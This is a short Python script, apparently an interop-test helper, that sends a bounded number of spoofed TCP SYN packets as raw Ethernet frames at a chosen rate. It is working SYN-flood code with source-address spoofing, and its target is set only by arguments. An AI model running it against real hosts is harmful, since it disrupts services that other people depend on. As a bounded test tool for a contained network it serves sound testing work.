#!/usr/bin/env python3
"""Bounded SYN flood for the interop tests: COUNT spoofed SYNs at about RATE per second.

Sent as raw Ethernet frames (AF_PACKET) from inside the client namespace to the server's MAC,
with random source addresses in the given /24 and random source ports. Nothing leaves the
test's namespaces. Usage: synflood.py IFACE DST_MAC DST_IP DST_PORT SRC_PREFIX(a.b.c) COUNT RATE
"""
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    iface, dst_mac, dst_ip, dst_port, src_prefix, count, rate = sys.argv[1:8]
    count, rate, dst_port = int(count), int(rate), int(dst_port)
    dst_mac_b = bytes(int(x, 16) for x in dst_mac.split(":"))
    with open(f"/sys/class/net/{iface}/address") as f:
        src_mac_b = bytes(int(x, 16) for x in f.read().strip().split(":"))
    dst_ip_b = socket.inet_aton(dst_ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    rng = random.Random(251)
    eth = dst_mac_b + src_mac_b + b"\x08\x00"
    batch = 500
    sent = 0
    start = time.monotonic()
    while sent < count:
        for _ in range(min(batch, count - sent)):
            # Hosts .100-.250 of the prefix: never the client's or the server's own address.
            src_ip_b = socket.inet_aton(f"{src_prefix}.{rng.randint(100, 250)}")
            sport = rng.randint(1024, 65535)
            seq = rng.getrandbits(32)
            # SYN with an MSS option (kind 2, length 4).
            tcp = struct.pack("!HHIIBBHHH", sport, dst_port, seq, 0, 6 << 4, 0x02, 65535, 0, 0) + b"\x02\x04\x05\xb4"
            pseudo = src_ip_b + dst_ip_b + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0, src_ip_b, dst_ip_b)
            ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
            s.send(eth + ip + tcp)
            sent += 1
        # Pace to RATE so the flood is bounded in time as well as in count.
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(f"sent {sent} SYNs in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
